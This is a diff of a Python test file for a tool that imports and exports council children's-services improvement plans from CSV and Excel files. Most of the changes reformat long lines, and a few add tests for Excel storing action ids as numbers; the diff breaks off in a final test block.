@@ -29,11 +29,20 @@ from bot.spreadsheet import (
     write_csv,
     write_workbook,
 )
+from bot.spreadsheet.formulas import guard_formula, unguard_formula
 from bot.tracker import TRACKER_ROWS
 
 seed_plan = functools.cache(load_bundled_plan)  # read once; tests that change it take a copy
 
-SEED_HEADINGS = ["Recommendation", "Expected Outcomes", "Actions", "Lead", "Timescale", "Progress Update", "RAG"]
+SEED_HEADINGS = [
+    "Recommendation",
+    "Expected Outcomes",
+    "Actions",
+    "Lead",
+    "Timescale",
+    "Progress Update",
+    "RAG",
+]
 GENERIC_HEADINGS = ["No.", "Action description", "Owner", "Due date", "Latest update", "Status"]
 
 
@@ -70,17 +79,41 @@ def rejected(path: Path, column_map: dict[str, str] | None = None) -> ImportReje
 
 @pytest.mark.parametrize("delimiter", [",", ";"])
 def test_a_generic_council_tracker_csv(tmp_path: Path, delimiter: str) -> None:
-    path = write_rows(tmp_path / "tracker.csv", [
-        ["Sunderland Children's Services - Improvement Tracker"],
-        ["Updated monthly by the performance team"],
-        [],
-        GENERIC_HEADINGS,
-        ["1.1", "Review the front door", "Service Manager & IRO Manager", "31/03/2019", "Review started", "Green"],
-        ["1.2", "Audit thresholds (21)", "Head of Service", "31 March 2019", "", "amber"],
-        ["2.1", "Refresh the missing protocol", "Chair of MSET; Director of Early Help", "31/03/19",
-         "Draft shared\nwith partners", ""],
-        ["2.2", "Recruit foster carers", "Director of Quality Assurance & Performance", "", "", "Completed"],
-    ], delimiter)
+    path = write_rows(
+        tmp_path / "tracker.csv",
+        [
+            ["Sunderland Children's Services - Improvement Tracker"],
+            ["Updated monthly by the performance team"],
+            [],
+            GENERIC_HEADINGS,
+            [
+                "1.1",
+                "Review the front door",
+                "Service Manager & IRO Manager",
+                "31/03/2019",
+                "Review started",
+                "Green",
+            ],
+            ["1.2", "Audit thresholds (21)", "Head of Service", "31 March 2019", "", "amber"],
+            [
+                "2.1",
+                "Refresh the missing protocol",
+                "Chair of MSET; Director of Early Help",
+                "31/03/19",
+                "Draft shared\nwith partners",
+                "",
+            ],
+            [
+                "2.2",
+                "Recruit foster carers",
+                "Director of Quality Assurance & Performance",
+                "",
+                "",
+                "Completed",
+            ],
+        ],
+        delimiter,
+    )
 
     imported = read_plan_table(path)
 
@@ -89,22 +122,52 @@ def test_a_generic_council_tracker_csv(tmp_path: Path, delimiter: str) -> None:
         name="Improvement plan",
         sections={"plan": "Plan"},
         priorities=[
-            PrioritySpec(number=1, section="plan", recommendation="Priority 1", actions=[
-                ActionSpec(id="1.1", text="Review the front door", leads=["Service Manager", "IRO Manager"],
-                           timescale=date(2019, 3, 31), timescale_as_written="31/03/2019",
-                           progress="Review started", rag=Rag.GREEN),
-                ActionSpec(id="1.2", text="Audit thresholds", leads=["Head of Service"],
-                           timescale=date(2019, 3, 31), timescale_as_written="31 March 2019",
-                           rag=Rag.AMBER, paragraph_refs=[21]),
-            ]),
-            PrioritySpec(number=2, section="plan", recommendation="Priority 2", actions=[
-                ActionSpec(id="2.1", text="Refresh the missing protocol",
-                           leads=["Chair of MSET", "Director of Early Help"],
-                           timescale=date(2019, 3, 31), timescale_as_written="31/03/19",
-                           progress="Draft shared\nwith partners"),
-                ActionSpec(id="2.2", text="Recruit foster carers",
-                           leads=["Director of Quality Assurance & Performance"], rag=Rag.COMPLETED),
-            ]),
+            PrioritySpec(
+                number=1,
+                section="plan",
+                recommendation="Priority 1",
+                actions=[
+                    ActionSpec(
+                        id="1.1",
+                        text="Review the front door",
+                        leads=["Service Manager", "IRO Manager"],
+                        timescale=date(2019, 3, 31),
+                        timescale_as_written="31/03/2019",
+                        progress="Review started",
+                        rag=Rag.GREEN,
+                    ),
+                    ActionSpec(
+                        id="1.2",
+                        text="Audit thresholds",
+                        leads=["Head of Service"],
+                        timescale=date(2019, 3, 31),
+                        timescale_as_written="31 March 2019",
+                        rag=Rag.AMBER,
+                        paragraph_refs=[21],
+                    ),
+                ],
+            ),
+            PrioritySpec(
+                number=2,
+                section="plan",
+                recommendation="Priority 2",
+                actions=[
+                    ActionSpec(
+                        id="2.1",
+                        text="Refresh the missing protocol",
+                        leads=["Chair of MSET", "Director of Early Help"],
+                        timescale=date(2019, 3, 31),
+                        timescale_as_written="31/03/19",
+                        progress="Draft shared\nwith partners",
+                    ),
+                    ActionSpec(
+                        id="2.2",
+                        text="Recruit foster carers",
+                        leads=["Director of Quality Assurance & Performance"],
+                        rag=Rag.COMPLETED,
+                    ),
+                ],
+            ),
         ],
     )
 
@@ -114,20 +177,52 @@ def seed_layout_rows() -> list[list[object]]:
         ["Together for Children - Learning and Improvement Plan 2018"],
         [],
         SEED_HEADINGS,
-        ["Priority 1:\nUrgently review ICRT and take action. (para 21, 23, 78)\n(Ref: Ofsted Recommendation 1)",
-         "\u2022 Thresholds are at the appropriate level.\n\u2022 Risk is always identified and responded to.",
-         "1.1 Commission an independent review of ICRT (21) (78).",
-         "Director of Quality Assurance & Performance", datetime(2018, 9, 1),
-         "Independent review concluded.", "Completed"],
-        [None, None, "1.2 Agree and implement new ICRT model", "Service Manager & IRO Manager",
-         datetime(2018, 10, 31), None, "Green"],
+        [
+            "Priority 1:\nUrgently review ICRT and take action. (para 21, 23, 78)\n(Ref: Ofsted Recommendation 1)",
+            "\u2022 Thresholds are at the appropriate level.\n\u2022 Risk is always identified and responded to.",
+            "1.1 Commission an independent review of ICRT (21) (78).",
+            "Director of Quality Assurance & Performance",
+            datetime(2018, 9, 1),
+            "Independent review concluded.",
+            "Completed",
+        ],
+        [
+            None,
+            None,
+            "1.2 Agree and implement new ICRT model",
+            "Service Manager & IRO Manager",
+            datetime(2018, 10, 31),
+            None,
+            "Green",
+        ],
         SEED_HEADINGS,  # the header, repeated after a page break
-        [None, None, "1.3 Put in place task groups", "Service Manager - ICRT", datetime(2018, 9, 30), None, None],
-        ["Priority 7: Ensure that children do not drift. (27, 36) (Ref: Ofsted Recommendation 9)",
-         "Plans progress without delay.", "7.1 Implement a revised PLO process (36)",
-         "Service Manager \u2013 CP", "31/03/19", None, "amber"],
-        [None, None, "7.2 Track pre-proceedings cases", "Head of Service and Team Manager", None, "Tracker built",
-         None],
+        [
+            None,
+            None,
+            "1.3 Put in place task groups",
+            "Service Manager - ICRT",
+            datetime(2018, 9, 30),
+            None,
+            None,
+        ],
+        [
+            "Priority 7: Ensure that children do not drift. (27, 36) (Ref: Ofsted Recommendation 9)",
+            "Plans progress without delay.",
+            "7.1 Implement a revised PLO process (36)",
+            "Service Manager \u2013 CP",
+            "31/03/19",
+            None,
+            "amber",
+        ],
+        [
+            None,
+            None,
+            "7.2 Track pre-proceedings cases",
+            "Head of Service and Team Manager",
+            None,
+            "Tracker built",
+            None,
+        ],
     ]
 
 
@@ -141,64 +236,120 @@ def test_b_an_xlsx_in_the_seeds_own_layout(tmp_path: Path) -> None:
         sections={"plan": "Plan"},
         priorities=[
             PrioritySpec(
-                number=1, section="plan", recommendation="Urgently review ICRT and take action.",
-                ofsted_recommendation=1, paragraph_refs=[21, 23, 78],
-                expected_outcomes=["Thresholds are at the appropriate level.",
-                                   "Risk is always identified and responded to."],
+                number=1,
+                section="plan",
+                recommendation="Urgently review ICRT and take action.",
+                ofsted_recommendation=1,
+                paragraph_refs=[21, 23, 78],
+                expected_outcomes=[
+                    "Thresholds are at the appropriate level.",
+                    "Risk is always identified and responded to.",
+                ],
                 actions=[
-                    ActionSpec(id="1.1", text="Commission an independent review of ICRT",
-                               leads=["Director of Quality Assurance & Performance"],
-                               timescale=date(2018, 9, 1), progress="Independent review concluded.",
-                               rag=Rag.COMPLETED, paragraph_refs=[21, 78]),
-                    ActionSpec(id="1.2", text="Agree and implement new ICRT model",
-                               leads=["Service Manager", "IRO Manager"], timescale=date(2018, 10, 31),
-                               rag=Rag.GREEN),
-                    ActionSpec(id="1.3", text="Put in place task groups", leads=["Service Manager - ICRT"],
-                               timescale=date(2018, 9, 30)),
+                    ActionSpec(
+                        id="1.1",
+                        text="Commission an independent review of ICRT",
+                        leads=["Director of Quality Assurance & Performance"],
+                        timescale=date(2018, 9, 1),
+                        progress="Independent review concluded.",
+                        rag=Rag.COMPLETED,
+                        paragraph_refs=[21, 78],
+                    ),
+                    ActionSpec(
+                        id="1.2",
+                        text="Agree and implement new ICRT model",
+                        leads=["Service Manager", "IRO Manager"],
+                        timescale=date(2018, 10, 31),
+                        rag=Rag.GREEN,
+                    ),
+                    ActionSpec(
+                        id="1.3",
+                        text="Put in place task groups",
+                        leads=["Service Manager - ICRT"],
+                        timescale=date(2018, 9, 30),
+                    ),
                 ],
             ),
             PrioritySpec(
-                number=7, section="plan", recommendation="Ensure that children do not drift.",
-                ofsted_recommendation=9, paragraph_refs=[27, 36],
+                number=7,
+                section="plan",
+                recommendation="Ensure that children do not drift.",
+                ofsted_recommendation=9,
+                paragraph_refs=[27, 36],
                 expected_outcomes=["Plans progress without delay."],
                 actions=[
-                    ActionSpec(id="7.1", text="Implement a revised PLO process", leads=["Service Manager - CP"],
-                               timescale=date(2019, 3, 31), timescale_as_written="31/03/19", rag=Rag.AMBER,
-                               paragraph_refs=[36]),
-                    ActionSpec(id="7.2", text="Track pre-proceedings cases",
-                               leads=["Head of Service", "Team Manager"], progress="Tracker built"),
+                    ActionSpec(
+                        id="7.1",
+                        text="Implement a revised PLO process",
+                        leads=["Service Manager - CP"],
+                        timescale=date(2019, 3, 31),
+                        timescale_as_written="31/03/19",
+                        rag=Rag.AMBER,
+                        paragraph_refs=[36],
+                    ),
+                    ActionSpec(
+                        id="7.2",
+                        text="Track pre-proceedings cases",
+                        leads=["Head of Service", "Team Manager"],
+                        progress="Tracker built",
+                    ),
                 ],
             ),
         ],
     )
 
 
-def test_a_section_column_names_the_sections_and_a_priority_column_is_checked(tmp_path: Path) -> None:
-    path = write_rows(tmp_path / "plan.csv", [
-        ["Section", "Priority", "Ref", "Action", "Lead", "Timescale", "RAG"],
-        ["Leadership, management and governance", "3", "3.1", "Agree scrutiny model", "CEO of TfC", "", ""],
-        ["Early help", "4", "1", "Launch the hub", "Director of Early Help", "", "Red"],
-        ["", "", "2", "Train staff", "Workforce Development Manager", "", ""],
-    ])
+def test_a_section_column_names_the_sections_and_a_priority_column_is_checked(
+    tmp_path: Path,
+) -> None:
+    path = write_rows(
+        tmp_path / "plan.csv",
+        [
+            ["Section", "Priority", "Ref", "Action", "Lead", "Timescale", "RAG"],
+            [
+                "Leadership, management and governance",
+                "3",
+                "3.1",
+                "Agree scrutiny model",
+                "CEO of TfC",
+                "",
+                "",
+            ],
+            ["Early help", "4", "1", "Launch the hub", "Director of Early Help", "", "Red"],
+            ["", "", "2", "Train staff", "Workforce Development Manager", "", ""],
+        ],
+    )
 
     spec = read_plan_table(path).spec
 
-    assert spec.sections == {"leadership": "Leadership, management and governance", "early_help": "Early help"}
-    assert [(p.number, p.section) for p in spec.priorities] == [(3, "leadership"), (4, "early_help")]
+    assert spec.sections == {
+        "leadership": "Leadership, management and governance",
+        "early_help": "Early help",
+    }
+    assert [(p.number, p.section) for p in spec.priorities] == [
+        (3, "leadership"),
+        (4, "early_help"),
+    ]
     # Bare numbers under a priority are that priority's actions.
     assert [a.id for a in spec.actions] == ["3.1", "4.1", "4.2"]
 
 
 def test_map_names_columns_detection_would_miss(tmp_path: Path) -> None:
-    path = write_rows(tmp_path / "plan.csv", [
-        ["Item", "What we will do", "Who", "Status"],
-        ["1.1", "Review the front door", "Service Manager", "On hold"],
-    ])
+    path = write_rows(
+        tmp_path / "plan.csv",
+        [
+            ["Item", "What we will do", "Who", "Status"],
+            ["1.1", "Review the front door", "Service Manager", "On hold"],
+        ],
+    )
 
-    spec = read_plan_table(path, {"Item": "action_id", "What we will do": "action", "Who": "lead",
-                                  "Status": "ignore"}).spec
+    spec = read_plan_table(
+        path, {"Item": "action_id", "What we will do": "action", "Who": "lead", "Status": "ignore"}
+    ).spec
 
-    assert spec.actions == [ActionSpec(id="1.1", text="Review the front door", leads=["Service Manager"])]
+    assert spec.actions == [
+        ActionSpec(id="1.1", text="Review the front door", leads=["Service Manager"])
+    ]
 
 
 @pytest.mark.parametrize(
@@ -228,13 +379,24 @@ def test_uk_dates(written: str, expected: date | None) -> None:
     ("cell", "roles"),
     [
         ("Service Manager & IRO Manager", ["Service Manager", "IRO Manager"]),
-        ("Director of Quality Assurance & Performance", ["Director of Quality Assurance & Performance"]),
+        (
+            "Director of Quality Assurance & Performance",
+            ["Director of Quality Assurance & Performance"],
+        ),
         ("ICRT Manager and MSET Co-ordinator", ["ICRT Manager", "MSET Co-ordinator"]),
-        ("CEO of TfC & Head of Contractual Relationships in Sunderland Council",
-         ["CEO of TfC", "Head of Contractual Relationships in Sunderland Council"]),
-        ("Service Managers & Quality and Performance Manager", ["Service Managers", "Quality and Performance Manager"]),
+        (
+            "CEO of TfC & Head of Contractual Relationships in Sunderland Council",
+            ["CEO of TfC", "Head of Contractual Relationships in Sunderland Council"],
+        ),
+        (
+            "Service Managers & Quality and Performance Manager",
+            ["Service Managers", "Quality and Performance Manager"],
+        ),
         ("Quality and Performance Manager", ["Quality and Performance Manager"]),
-        ("Service Manager and service users", ["Service Manager and service users"]),  # lower case: no split
+        (
+            "Service Manager and service users",
+            ["Service Manager and service users"],
+        ),  # lower case: no split
         ("Service Manager / IRO Manager", ["Service Manager", "IRO Manager"]),
         ("CSE/MSET Co-ordinator", ["CSE/MSET Co-ordinator"]),
         ("Service Manager\nIRO Manager", ["Service Manager", "IRO Manager"]),
@@ -242,9 +404,15 @@ def test_uk_dates(written: str, expected: date | None) -> None:
         ("Service Manager \u2013ICRT", ["Service Manager - ICRT"]),
         ("Service Manager & Service Manager", ["Service Manager"]),
         # The rule splits this seed role ("Workforce" is a role word) ...
-        ("Chair of SSCB Learning and Workforce Development Group", ["Chair of SSCB Learning", "Workforce Development Group"]),
+        (
+            "Chair of SSCB Learning and Workforce Development Group",
+            ["Chair of SSCB Learning", "Workforce Development Group"],
+        ),
         # ... unless the cell ends with ";", as planbot's exports write it.
-        ("Chair of SSCB Learning and Workforce Development Group;", ["Chair of SSCB Learning and Workforce Development Group"]),
+        (
+            "Chair of SSCB Learning and Workforce Development Group;",
+            ["Chair of SSCB Learning and Workforce Development Group"],
+        ),
         ("", []),
         (None, []),
     ],
@@ -257,13 +425,17 @@ def test_compound_leads_split_on_role_words(cell: str | None, roles: list[str]) 
     ("text", "expected"),
     [
         ("Commission a review (21) (78).", ("Commission a review", [21, 78], None)),
-        ("Urgently review ICRT. (para 21, 23, 78) (Ref: Ofsted Recommendation 1)",
-         ("Urgently review ICRT.", [21, 23, 78], 1)),
+        (
+            "Urgently review ICRT. (para 21, 23, 78) (Ref: Ofsted Recommendation 1)",
+            ("Urgently review ICRT.", [21, 23, 78], 1),
+        ),
         ("Review the plan (2019)", ("Review the plan (2019)", [], None)),
         ("Review (see page 4)", ("Review (see page 4)", [], None)),
     ],
 )
-def test_trailing_paragraph_and_ofsted_refs(text: str, expected: tuple[str, list[int], int | None]) -> None:
+def test_trailing_paragraph_and_ofsted_refs(
+    text: str, expected: tuple[str, list[int], int | None]
+) -> None:
     assert split_trailing_refs(text, ofsted=True) == expected
 
 
@@ -271,40 +443,109 @@ def test_trailing_paragraph_and_ofsted_refs(text: str, expected: tuple[str, list
 
 
 def test_a_bad_date_names_row_column_and_fix(tmp_path: Path) -> None:
-    path = write_rows(tmp_path / "plan.csv", generic(
-        ["1.1", "Review the front door", "Service Manager", "31/03/2019", "", ""],
-        ["1.2", "Audit thresholds", "Service Manager", "31/13/19", "", ""],
-    ))
+    path = write_rows(
+        tmp_path / "plan.csv",
+        generic(
+            ["1.1", "Review the front door", "Service Manager", "31/03/2019", "", ""],
+            ["1.2", "Audit thresholds", "Service Manager", "31/13/19", "", ""],
+        ),
+    )
 
     error = rejected(path)
 
-    assert error.problems == [RowProblem(3, "Due date", "'31/13/19' is not a date; write it as dd/mm/yyyy")]
-    assert str(error) == "plan.csv row 3 (Due date): '31/13/19' is not a date; write it as dd/mm/yyyy"
+    assert error.problems == [
+        RowProblem(3, "Due date", "'31/13/19' is not a date; write it as dd/mm/yyyy")
+    ]
+    assert (
+        str(error) == "plan.csv row 3 (Due date): '31/13/19' is not a date; write it as dd/mm/yyyy"
+    )
 
 
 @pytest.mark.parametrize(
     ("row", "problem"),
     [
-        (["1.1", "Audit thresholds", "", "", "", ""],
-         RowProblem(3, "No.", "action 1.1 appears twice (first on row 2)")),
-        (["1.2", "Audit thresholds", "", "", "", "Purple"],
-         RowProblem(3, "Status", "'Purple' is not a RAG rating; use Red, Amber, Green, Completed, "
-                                 "or empty for not yet rated")),
-        (["", "Audit thresholds", "", "", "", ""],
-         RowProblem(3, "No.", "no action id: the No. cell is empty")),
-        (["one.two", "Audit thresholds", "", "", "", ""],
-         RowProblem(3, "No.", "'one.two' is not an action number like 7.3")),
-        (["1.2", "", "", "", "", "Green"],
-         RowProblem(3, "Action description", "action 1.2 has no action text")),
-        (["", "", "Service Manager", "", "", ""],
-         RowProblem(3, "No.", "no action id and no action text; every row below the header row must be an "
-                              "action (delete the row if it is not)")),
+        (
+            ["1.1", "Audit thresholds", "", "", "", ""],
+            RowProblem(3, "No.", "action 1.1 appears twice (first on row 2)"),
+        ),
+        (
+            ["1.2", "Audit thresholds", "", "", "", "Purple"],
+            RowProblem(
+                3,
+                "Status",
+                "'Purple' is not a RAG rating; use Red, Amber, Green, Completed, "
+                "or empty for not yet rated",
+            ),
+        ),
+        (
+            ["", "Audit thresholds", "", "", "", ""],
+            RowProblem(3, "No.", "no action id: the No. cell is empty"),
+        ),
+        (
+            ["one.two", "Audit thresholds", "", "", "", ""],
+            RowProblem(3, "No.", "'one.two' is not an action number like 7.3"),
+        ),
+        (
+            ["1.2", "", "", "", "", "Green"],
+            RowProblem(3, "Action description", "action 1.2 has no action text"),
+        ),
+        (
+            ["", "", "Service Manager", "", "", ""],
+            RowProblem(
+                3,
+                "No.",
+                "no action id and no action text; every row below the header row must be an "
+                "action (delete the row if it is not)",
+            ),
+        ),
     ],
 )
 def test_each_bad_row_is_named(tmp_path: Path, row: list[object], problem: RowProblem) -> None:
-    path = write_rows(tmp_path / "plan.csv", generic(["1.1", "Review the front door", "", "", "", ""], row))
+    path = write_rows(
+        tmp_path / "plan.csv", generic(["1.1", "Review the front door", "", "", "", ""], row)
+    )
 
     assert rejected(path).problems == [problem]
+
+
+NUMBER_HINT = (
+    "Excel stored this id as a number (1.10 becomes 1.1): format the Ref column as Text "
+    "and retype the ids"
+)
+
+
+@pytest.mark.parametrize(
+    ("first", "second", "hint"),
+    [
+        (1.1, 1.1, True),  # typed 1.1 and 1.10; Excel keeps both as the number 1.1
+        ("1.1", 1.1, True),  # only the second was stored as a number
+        (1.1, "1.1", True),  # only the first was
+        ("1.1", "1.1", False),  # text ids: a real duplicate, no hint
+    ],
+    ids=["both numbers", "second a number", "first a number", "both text"],
+)
+def test_an_id_excel_stored_as_a_number_says_so(
+    tmp_path: Path, first: object, second: object, hint: bool
+) -> None:
+    path = write_sheet(
+        tmp_path / "plan.xlsx",
+        [
+            ["Ref", "Action"],
+            [first, "Review the front door"],
+            [second, "Audit thresholds"],
+        ],
+    )
+
+    message = "action 1.1 appears twice (first on row 2)" + (f"; {NUMBER_HINT}" if hint else "")
+    assert rejected(path).problems == [RowProblem(3, "Ref", message)]
+
+
+def test_ids_excel_stored_as_numbers_are_read_when_they_are_distinct(tmp_path: Path) -> None:
+    path = write_sheet(
+        tmp_path / "plan.xlsx", [["Ref", "Action"], [1.1, "Review"], [1.2, "Audit"], [2.1, "Train"]]
+    )
+
+    assert [a.id for a in read_plan_table(path).spec.actions] == ["1.1", "1.2", "2.1"]
 
 
 def test_a_missing_id_in_the_seed_layout_points_at_the_actions_cell(tmp_path: Path) -> None:
@@ -313,35 +554,50 @@ def test_a_missing_id_in_the_seed_layout_points_at_the_actions_cell(tmp_path: Pa
     path = write_sheet(tmp_path / "lip.xlsx", rows)
 
     assert rejected(path).problems == [
-        RowProblem(7, "Actions", "no action id: the Actions cell does not start with an action number like 7.3")
+        RowProblem(
+            7,
+            "Actions",
+            "no action id: the Actions cell does not start with an action number like 7.3",
+        )
     ]
 
 
 def test_an_id_outside_its_priority_column_is_rejected(tmp_path: Path) -> None:
-    path = write_rows(tmp_path / "plan.csv", [
-        ["Priority", "Ref", "Action"],
-        ["7", "7.1", "Implement PLO"],
-        ["8", "7.2", "Track cases"],
-    ])
+    path = write_rows(
+        tmp_path / "plan.csv",
+        [
+            ["Priority", "Ref", "Action"],
+            ["7", "7.1", "Implement PLO"],
+            ["8", "7.2", "Track cases"],
+        ],
+    )
 
     assert rejected(path).problems == [
-        RowProblem(3, "Priority", "action 7.2 belongs to priority 7, but the Priority cell says priority 8")
+        RowProblem(
+            3, "Priority", "action 7.2 belongs to priority 7, but the Priority cell says priority 8"
+        )
     ]
 
 
 def test_every_bad_row_is_reported_and_nothing_is_returned(tmp_path: Path) -> None:
-    path = write_rows(tmp_path / "plan.csv", generic(
-        ["1.1", "Review the front door", "Service Manager", "31/03/2019", "", "Green"],
-        ["1.2", "Audit thresholds", "Service Manager", "31/13/19", "", "Purple"],
-        ["1.1", "Review it again", "Service Manager", "", "", ""],
-        ["", "Train staff", "", "Friday", "", ""],
-        ["2.1", "Recruit carers", "", "", "", "Green"],
-    ))
+    path = write_rows(
+        tmp_path / "plan.csv",
+        generic(
+            ["1.1", "Review the front door", "Service Manager", "31/03/2019", "", "Green"],
+            ["1.2", "Audit thresholds", "Service Manager", "31/13/19", "", "Purple"],
+            ["1.1", "Review it again", "Service Manager", "", "", ""],
+            ["", "Train staff", "", "Friday", "", ""],
+            ["2.1", "Recruit carers", "", "", "", "Green"],
+        ),
+    )
 
     error = rejected(path)
 
     assert [(p.row, p.column) for p in error.problems] == [
-        (3, "Due date"), (3, "Status"), (4, "No."), (5, "No.")
+        (3, "Due date"),
+        (3, "Status"),
+        (4, "No."),
+        (5, "No."),
     ]
     report = str(error)
     assert report.startswith("plan.csv cannot be imported (4 problems); nothing was loaded:")
@@ -349,13 +605,17 @@ def test_every_bad_row_is_reported_and_nothing_is_returned(tmp_path: Path) -> No
 
 
 def test_a_bad_map_lists_valid_fields_and_the_files_columns(tmp_path: Path) -> None:
-    path = write_rows(tmp_path / "plan.csv", generic(["1.1", "Review the front door", "", "", "", ""]))
+    path = write_rows(
+        tmp_path / "plan.csv", generic(["1.1", "Review the front door", "", "", "", ""])
+    )
 
     error = rejected(path, {"Owner": "owner_name", "Who": "lead"})
 
     [bad_field, bad_column] = error.problems
     assert bad_field.column == "Owner"
-    assert "'owner_name' is not a field; valid fields: action_id, action, lead," in bad_field.message
+    assert (
+        "'owner_name' is not a field; valid fields: action_id, action, lead," in bad_field.message
+    )
     assert bad_column.column == "Who"
     assert bad_column.message == (
         "--map Who=lead: there is no column 'Who' in the file; its columns are: "
@@ -379,12 +639,18 @@ def test_an_unsupported_file_type_names_the_supported_ones(tmp_path: Path, name:
     [
         ("empty.csv", "", "empty.csv: the file is empty"),
         ("blank.csv", ",,\n,,\n", "blank.csv: the file is empty: no plan table found"),
-        ("minutes.csv", "Meeting,Date\nQIC,01/10/18\n", "minutes.csv: no header row found in the first 10 rows"),
+        (
+            "minutes.csv",
+            "Meeting,Date\nQIC,01/10/18\n",
+            "minutes.csv: no header row found in the first 10 rows",
+        ),
         ("broken.xlsx", "not a zip", "broken.xlsx: not a readable .xlsx workbook"),
         ("only.csv", "Ref,Action,Lead\n", "only.csv row 1: no actions below the header row"),
     ],
 )
-def test_files_without_a_plan_are_rejected(tmp_path: Path, name: str, content: str, expected: str) -> None:
+def test_files_without_a_plan_are_rejected(
+    tmp_path: Path, name: str, content: str, expected: str
+) -> None:
     path = tmp_path / name
     path.write_text(content)
 
@@ -398,9 +664,13 @@ def test_an_empty_workbook_is_rejected(tmp_path: Path) -> None:
 
 
 def test_a_bad_history_row_names_its_sheet(tmp_path: Path) -> None:
-    path = write_workbook(tmp_path / "plan.xlsx", small_plan(), [
-        HistoryRow("9.9", datetime(2019, 1, 1, tzinfo=UTC), "Done", None, "reply"),
-    ])
+    path = write_workbook(
+        tmp_path / "plan.xlsx",
+        small_plan(),
+        [
+            HistoryRow("9.9", datetime(2019, 1, 1, tzinfo=UTC), "Done", None, "reply"),
+        ],
+    )
 
     assert rejected(path).problems == [
         RowProblem(2, "Action", "'9.9' is not an action of this plan", HISTORY_SHEET)
@@ -414,9 +684,18 @@ def small_plan() -> PlanSpec:
     return PlanSpec(
         name="Small plan",
         sections={"plan": "Plan"},
-        priorities=[PrioritySpec(number=1, section="plan", recommendation="Priority 1", actions=[
-            ActionSpec(id="1.1", text="=SUM(A1) is text, not a formula", leads=["Service Manager"]),
-        ])],
+        priorities=[
+            PrioritySpec(
+                number=1,
+                section="plan",
+                recommendation="Priority 1",
+                actions=[
+                    ActionSpec(
+                        id="1.1", text="=SUM(A1) is text, not a formula", leads=["Service Manager"]
+                    ),
+                ],
+            )
+        ],
     )
 
 
@@ -429,20 +708,35 @@ def rated_seed() -> PlanSpec:
     actions[1].original_timescale, actions[1].timescale = actions[1].timescale, date(2019, 6, 30)
     actions[2].timescale, actions[2].timescale_as_written = None, "TBC"
     spec.priorities[0].actions.append(
-        ActionSpec(id="1.17", text="Added later", leads=["Service Manager"], is_new=True, rag=Rag.GREEN)
+        ActionSpec(
+            id="1.17", text="Added later", leads=["Service Manager"], is_new=True, rag=Rag.GREEN
+        )
     )
     spec.priorities[0].kpis[0] = MeasureSpec(spec.priorities[0].kpis[0].name, "87%")
-    spec.priorities.append(PrioritySpec(number=16, section="leadership", recommendation="Added later, no actions yet",
-                                        kpis=[MeasureSpec("Audits graded good", "40%")]))
+    spec.priorities.append(
+        PrioritySpec(
+            number=16,
+            section="leadership",
+            recommendation="Added later, no actions yet",
+            kpis=[MeasureSpec("Audits graded good", "40%")],
+        )
+    )
     return spec
 
 
 def test_the_seed_round_trips_through_xlsx_with_its_history(tmp_path: Path) -> None:
     spec = rated_seed()
     history = [
-        HistoryRow("1.1", datetime(2018, 10, 31, 12, tzinfo=UTC), "Review concluded.", None, "seed"),
-        HistoryRow("7.3", datetime(2019, 2, 4, 9, 15, 30, 123000, tzinfo=UTC), "Delayed:\nnew date 30/06", "U123",
-                   "reply"),
+        HistoryRow(
+            "1.1", datetime(2018, 10, 31, 12, tzinfo=UTC), "Review concluded.", None, "seed"
+        ),
+        HistoryRow(
+            "7.3",
+            datetime(2019, 2, 4, 9, 15, 30, 123000, tzinfo=UTC),
+            "Delayed:\nnew date 30/06",
+            "U123",
+            "reply",
+        ),
     ]
 
     imported = read_plan_table(write_workbook(tmp_path / "plan.xlsx", spec, history))
@@ -466,9 +760,16 @@ def test_the_workbook_is_in_the_plans_own_layout(tmp_path: Path) -> None:
     assert plan["C2"].value == "1.1 Commission an independent review of ICRT"
     assert plan["E2"].value == datetime(2018, 9, 1) and plan["E2"].number_format == "dd/mm/yyyy"
     assert plan["E2"].alignment.wrap_text
-    fills = {plan.cell(row, 7).value: plan.cell(row, 7).fill.fgColor.rgb[-6:] for row in range(2, 7)}
-    assert fills == {"Red": RAG_FILLS[Rag.RED], "Amber": "FFC000", "Green": "00B050", "Completed": "0070C0",
-                     None: "000000"}
+    fills = {
+        plan.cell(row, 7).value: plan.cell(row, 7).fill.fgColor.rgb[-6:] for row in range(2, 7)
+    }
+    assert fills == {
+        "Red": RAG_FILLS[Rag.RED],
+        "Amber": "FFC000",
+        "Green": "00B050",
+        "Completed": "0070C0",
+        None: "000000",
+    }
     assert plan.cell(6, 7).fill.fill_type is None  # not yet rated: no fill
 
     tracker = book[TRACKER_SHEET]
@@ -504,10 +805,27 @@ def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
 
 
 def csv_fields(spec: PlanSpec) -> list[tuple[object, ...]]:
-    """What a CSV carries (see bot/spreadsheet.py's docstring)."""
+    """What a CSV carries (see bot/spreadsheet/__init__.py's docstring)."""
     return [
-        (p.number, spec.sections[p.section], p.ofsted_recommendation, p.recommendation,
-         [(a.id, a.text, a.leads, a.timescale, a.original_timescale, a.progress, a.rag, a.note) for a in p.actions])
+        (
+            p.number,
+            spec.sections[p.section],
+            p.ofsted_recommendation,
+            p.recommendation,
+            [
+                (
+                    a.id,
+                    a.text,
+                    a.leads,
+                    a.timescale,
+                    a.original_timescale,
+                    a.progress,
+                    a.rag,
+                    a.note,
+                )
+                for a in p.actions
+            ],
+        )
         for p in spec.priorities
     ]
 
@@ -527,11 +845,97 @@ def test_the_csv_has_the_documented_columns(tmp_path: Path) -> None:
 
     with path.open(encoding="utf-8-sig", newline="") as file:
         rows = list(csv.DictReader(file))
-    assert list(rows[0]) == ["Priority", "Section", "Ofsted Recommendation", "Recommendation", "Ref", "Action",
-                             "Lead", "Timescale", "Original Timescale", "Progress Update", "RAG", "Note"]
+    assert list(rows[0]) == [
+        "Priority",
+        "Section",
+        "Ofsted Recommendation",
+        "Recommendation",
+        "Ref",
+        "Action",
+        "Lead",
+        "Timescale",
+        "Original Timescale",
+        "Progress Update",
+        "RAG",
+        "Note",
+    ]
     first = rows[0]
-    assert (first["Priority"], first["Ref"], first["Timescale"], first["RAG"]) == ("1", "1.1", "01/09/2018", "")
+    assert (first["Priority"], first["Ref"], first["Timescale"], first["RAG"]) == (
+        "1",
+        "1.1",
+        "01/09/2018",
+        "",
+    )
     twelve = next(row for row in rows if row["Ref"] == "1.12")
     assert twelve["Lead"] == "Chair of SSCB Learning and Workforce Development Group;"
     two_six = next(row for row in rows if row["Ref"] == "2.6")
     assert two_six["Lead"] == "ICRT Manager; MSET Co-ordinator"
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        (
